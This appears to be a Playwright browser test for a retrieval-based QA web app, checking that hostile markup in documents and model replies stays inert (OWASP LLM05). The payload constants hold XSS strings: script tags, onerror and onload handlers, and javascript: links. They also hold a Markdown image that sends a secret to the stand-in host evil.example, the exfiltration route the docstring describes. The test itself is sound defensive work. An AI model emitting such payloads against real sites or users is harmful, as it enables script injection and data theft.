"""Improper output handling (OWASP LLM05), in headless Chromium: hostile documents and model output stay inert.

A document (its text, title, file name and source URL) and the model's reply
carry script tags, event handlers, a Markdown image pointing at an outside host
(the classic exfiltration: `![x](http://evil/?q=<secret>)`) and `javascript:`
links. Everywhere they show up (streamed text, the answer, citations, the
sources panel, the documents table, pop-ups) no script runs, no image or
anything else is fetched from an outside host, and no `javascript:` link exists.
"""

from __future__ import annotations

import urllib.parse

import pytest
from playwright.sync_api import expect

from rag.core.config import load_settings
from rag.serve.api import DocQA
from tests.conftest import serving, shared_cache
from tests.test_ui_browser import SlowFakeChatModel, browser, load  # noqa: F401 -- fixture

pytestmark = pytest.mark.browser

EVIL = "evil.example"
RUN = "window.__pwned = (window.__pwned || 0) + 1"
PAYLOADS = (f'<img src="http://{EVIL}/img.png" onerror="{RUN}"> <script>{RUN}</script> '
            f"![x](http://{EVIL}/leak?q=SECRET) [click](javascript:{RUN}) "
            f'<a href="javascript:{RUN}">link</a> <svg onload="{RUN}"></svg>')
REPLY = (f"Answer: six companies\nDetails: Six foreign-invested companies changed their business scope "
         f"{PAYLOADS} [1].")
HOSTILE_TITLE = f'<img src="http://{EVIL}/title.png" onerror="{RUN}">'
HOSTILE_NAME = f'<img src=x onerror="{RUN}">'  # a file name: no "/" possible
HOSTILE_COLLECTION = f'<img src="http://{EVIL}/popup.png" onerror="{RUN}">'


def test_hostile_text_renders_inertly_everywhere(browser, tmp_path):  # noqa: F811
    settings = load_settings(
        environ={}, home=tmp_path / "home", cache=shared_cache(),
        embedding={"provider": "fake", "model_name": "fake"}, llm={"provider": "fake"},
        answer={"min_relevance": -1.0, "support_threshold": 0.2},
    )
    qa = DocQA(settings, chat_model=SlowFakeChatModel(messages=iter([REPLY] * 5), delay=0.01))
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / f"{HOSTILE_NAME}.md").write_text(
        f"# {HOSTILE_TITLE}\n\nSix foreign-invested companies changed their business scope on 6 September. "
        f"{PAYLOADS}\n\nSource: javascript:{RUN}\n", encoding="utf-8")
    qa.ingest([docs])

    requests: list[str] = []
    with serving(qa) as url:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: requests.append(r.url))
        try:
            load(page, url)
            # the answer (streamed, then final) and its citation, and the sources panel
            page.locator("#question textarea").fill("How many companies changed their business scope?")
            page.locator("#ask").click()
            page.locator("#conversation a.cite-ref").first.wait_for(timeout=60_000)
            page.locator("#conversation a.cite-ref").first.click()
            page.locator("#conversation").get_by_text("![x](http://evil.example/leak?q=SECRET)").first.wait_for()
            page.locator("#sources-panel details").first.click()
            expect(page.locator("#sources-panel")).to_contain_text(HOSTILE_NAME)
            expect(page.locator("#conversation")).to_contain_text(HOSTILE_TITLE)  # the citation's title line
            # the documents table shows the hostile file name and title as text
            page.get_by_role("tab", name="Documents").click()
            expect(page.locator("#documents")).to_contain_text(HOSTILE_NAME)
            expect(page.locator("#documents")).to_contain_text(HOSTILE_TITLE)
            # a pop-up carrying hostile text: an invalid collection name is echoed in the error
            page.get_by_role("tab", name="Chat").click()
            box = page.get_by_label("Collection")
            box.fill(HOSTILE_COLLECTION)
            box.press("Enter")
            toast = page.locator(".toast-body, [data-testid='toast-body']").first
            toast.wait_for(timeout=30_000)
            expect(toast).to_contain_text("invalid collection name")
            expect(toast).to_contain_text(HOSTILE_COLLECTION)  # shown as written, not as markup
            # (the toast's own icons are svg: look inside its message only)
            assert toast.locator("[data-testid='toast-text'] :is(img, script, svg, a)").count() == 0
            assert page.locator("[data-testid='toast-text'] img").count() == 0
            page.wait_for_timeout(500)  # give any injected handler a chance to fire

            assert page.evaluate("window.__pwned") is None, "hostile markup ran script"
            assert dialogs == []
            hrefs = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))")
            assert not [h for h in hrefs if h.strip().lower().startswith("javascript:")], hrefs
            found = page.evaluate("[...document.querySelectorAll('.rag-chat :is(img, svg, script, iframe, object), .rag-sources :is(img, svg, script, iframe, object)')].map(e => e.outerHTML.slice(0, 300))")
            assert not found, found
        finally:
            context.close()
    outside = [u for u in requests if urllib.parse.urlsplit(u).hostname not in ("127.0.0.1", "localhost", None)]
    assert not [u for u in outside if EVIL in u], outside
